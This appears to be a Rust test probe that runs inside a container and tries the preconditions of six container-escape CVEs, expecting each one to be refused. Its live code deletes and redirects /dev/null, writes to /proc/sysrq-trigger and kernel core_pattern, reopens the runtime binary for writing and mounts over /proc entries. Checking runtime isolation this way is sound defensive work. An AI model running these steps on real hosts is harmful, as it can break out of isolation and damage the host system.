//! Attacks on container runtimes that have a number, as far as a program inside can try them: each with what it needs, and what came of it. `refused …`
//! is how all of them should end.

use std::ffi::{c_char, c_int};
use std::fs::{self, File, OpenOptions};
use std::io::{Read, Write};
use std::os::fd::AsRawFd;
use std::os::unix::fs::{OpenOptionsExt, symlink};
use std::path::Path;
use std::process::Command;

unsafe extern "C" {
    fn mount(source: *const c_char, target: *const c_char, kind: *const c_char, flags: u64, data: *const u8) -> c_int;
}

const O_PATH: c_int = 0o10_000_000;
const MS_BIND: u64 = 4096;
/// The argument with which this program tells of its capabilities.
pub const TELL: &str = "capabilities";

/// Number and outcome.
pub fn all() -> [(&'static str, String); 6] {
    [
        ("CVE-2019-5736", runtime_binary()),
        ("CVE-2024-21626", leaked_directory()),
        ("CVE-2025-31133", unmasked()),
        ("CVE-2025-52565", console()),
        ("CVE-2025-52881", redirected()),
        ("CVE-2025-27612", inheritable()),
    ]
}

/// What a descriptor of `/proc/self/exe` is opened again for writing: the program that everybody runs, the runtime's among them.
fn runtime_binary() -> String {
    let again = |program: &str| {
        let found = OpenOptions::new().read(true).custom_flags(O_PATH).open(program)?;
        OpenOptions::new().write(true).open(format!("/proc/self/fd/{}", found.as_raw_fd()))
    };
    first_success(["/proc/self/exe", "/proc/1/exe"].map(|program| (program, again(program).map(drop))))
}

/// A directory of the host's that the runtime left open, or started us in: from there the way goes up.
fn leaked_directory() -> String {
    let (mut looked_at, mut out) = (0, Vec::new());
    for number in 0..1024 {
        let link = format!("/proc/self/fd/{number}");
        looked_at += usize::from(fs::symlink_metadata(&link).is_ok());
        if fs::read_dir(format!("{link}/..")).is_ok() || fs::read_dir(&link).is_ok() {
            out.push(link);
        }
    }
    let at = fs::read_link("/proc/self/cwd").unwrap_or_default();
    if at != Path::new("/") {
        out.push(format!("/proc/self/cwd is {}", at.display()));
    }
    if out.is_empty() { format!("refused: no directory among {looked_at} descriptors") } else { format!("ok {}", out.join(" ")) }
}

/// With another thing in the place of `/dev/null`, which masks files of `/proc`, those are seen.
fn unmasked() -> String {
    // Whether that works or not: it comes too late.
    let _ = fs::remove_file("/dev/null");
    let _ = symlink("/proc/sysrq-trigger", "/dev/null");
    let read = |path: &str| File::open(path).and_then(|mut file| file.read(&mut [0; 1])).and_then(something);
    let write = |path: &str| OpenOptions::new().write(true).open(path).and_then(|mut file| file.write(b"h")).and_then(something);
    first_success([
        ("/proc/kcore", read("/proc/kcore")),
        ("/proc/keys", read("/proc/keys")),
        ("/proc/timer_list", read("/proc/timer_list")),
        ("/proc/sysrq-trigger", write("/proc/sysrq-trigger")),
        ("/proc/sys/kernel/core_pattern", write("/proc/sys/kernel/core_pattern")),
    ])
}

/// The console, for which the runtime mounts what `/dev/pts` has: a terminal of the host, or what was put in its place.
fn console() -> String {
    let _ = symlink("/proc/sysrq-trigger", "/dev/pts/0");
    let open = |path: &'static str| (path, OpenOptions::new().read(true).write(true).open(path).map(drop));
    first_success(["/dev/console", "/dev/tty", "/dev/ptmx", "/dev/pts/ptmx", "/dev/pts/0"].map(open))
}

/// What the runtime writes for us to `/proc/self/attr` and `/proc/sys` goes elsewhere, if we can mount there.
fn redirected() -> String {
    let bind = |what: &std::ffi::CStr, over: &std::ffi::CStr, flags: u64| {
        // SAFETY: a plain system call on literals.
        let done = unsafe { mount(what.as_ptr(), over.as_ptr(), c"tmpfs".as_ptr(), flags, std::ptr::null()) };
        if done == 0 { Ok(()) } else { Err(std::io::Error::last_os_error()) }
    };
    first_success([
        ("over /proc", bind(c"none", c"/proc", 0)),
        ("over /proc/self/attr", bind(c"none", c"/proc/self/attr", 0)),
        ("over attr/exec", bind(c"/proc/sysrq-trigger", c"/proc/self/attr/exec", MS_BIND)),
        ("over hostname", bind(c"/proc/sysrq-trigger", c"/proc/sys/kernel/hostname", MS_BIND)),
    ])
}

/// Capabilities that the runtime left inheritable, in us or in what we run.
fn inheritable() -> String {
    let own = told();
    let child = Command::new("/proc/self/exe").arg(TELL).output();
    let child = child.map(|output| String::from_utf8_lossy(&output.stdout).into_owned());
    let none = |of: &str| of.split_whitespace().all(|set| !["CapInh", "CapAmb"].iter().any(|name| set.starts_with(name)) || set.ends_with(":0000000000000000"));
    match child {
        Ok(child) if child.contains("CapInh:") && none(&own) && none(&child) => format!("refused: own {own}, of a child {child}"),
        Ok(child) => format!("ok own {own}, of a child {child}"),
        Err(error) => format!("ok nothing could be run: {error}"),
    }
}

/// Our sets of capabilities, in one line.
pub fn told() -> String {
    let status = fs::read_to_string("/proc/self/status").unwrap_or_default();
    let sets = status.lines().filter(|line| line.starts_with("Cap"));
    sets.map(|line| line.replace(['\t', ' '], "")).collect::<Vec<_>>().join(" ")
}

/// An empty file tells nothing.
fn something(length: usize) -> std::io::Result<()> {
    if length > 0 { Ok(()) } else { Err(std::io::Error::other("there is nothing in it")) }
}

/// `ok` and which, if any of them worked; else all refusals.
fn first_success<const N: usize>(attempts: [(&'static str, std::io::Result<()>); N]) -> String {
    match attempts.iter().find(|(_, outcome)| outcome.is_ok()) {
        Some((what, _)) => format!("ok {what}"),
        None => {
            let each = attempts.iter().filter_map(|(what, outcome)| Some(format!("{what}: {}", outcome.as_ref().err()?)));
            format!("refused {}", each.collect::<Vec<_>>().join("; "))
        }
    }
}
